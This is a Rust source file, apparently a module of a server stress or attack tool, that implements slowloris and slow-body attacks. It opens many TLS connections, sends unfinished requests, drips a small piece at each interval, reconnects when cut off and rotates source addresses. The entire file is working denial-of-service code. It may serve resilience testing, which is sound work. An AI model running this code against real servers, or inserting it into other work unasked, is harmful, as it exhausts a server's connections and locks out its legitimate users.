//! The shape of the slow-sending attacks (`slowloris`, `slow-body`): many TLS connections,
//! each sending an opening that leaves the request unfinished and then one more small piece
//! every `slow_interval`, reconnecting whenever the server cuts one. A server with a bounded
//! pool of connections and no deadline on the unfinished part runs out of room for anyone else.

use std::sync::Arc;
use std::sync::atomic::Ordering;

use tokio::io::AsyncWriteExt;

use super::{AttackCounters, AttackCtx, workers};
use crate::client;

/// What a drip attack sends.
#[derive(Clone, Copy)]
pub struct Drip {
    /// The opening bytes, given the Host header value.
    pub opening: fn(host: &str) -> String,
    /// Piece number `n` (from 1), sent after each pause.
    pub piece: fn(n: u64) -> String,
}

/// Runs `ctx.preset.connections` dripping workers until `ctx.until`.
pub async fn run(ctx: AttackCtx, counters: Arc<AttackCounters>, drip: Drip) {
    let count = ctx.preset.connections;
    workers::run(ctx, counters, count, move |ctx, counters, i| async move {
        worker(&ctx, ctx.sources.pick(i), &counters, drip).await
    })
    .await;
}

async fn worker(ctx: &AttackCtx, src: std::net::IpAddr, counters: &AttackCounters, drip: Drip) {
    let mut n = 0u64;
    loop {
        let Some(mut tls) =
            workers::attempt(counters, async { ctx.client.tls_from(src).await.ok() }).await
        else {
            continue;
        };
        if tls
            .write_all((drip.opening)(ctx.client.host()).as_bytes())
            .await
            .is_err()
        {
            counters.refused.fetch_add(1, Ordering::Relaxed);
            continue;
        }
        counters.opened();
        loop {
            tokio::time::sleep(ctx.preset.slow_interval).await;
            n += 1;
            let more = (drip.piece)(n);
            let sent = tls.write_all(more.as_bytes()).await.is_ok() && tls.flush().await.is_ok();
            if !sent || client::answered_or_closed(&mut tls).await {
                counters.cut.fetch_add(1, Ordering::Relaxed);
                break;
            }
        }
        counters.closed();
    }
}
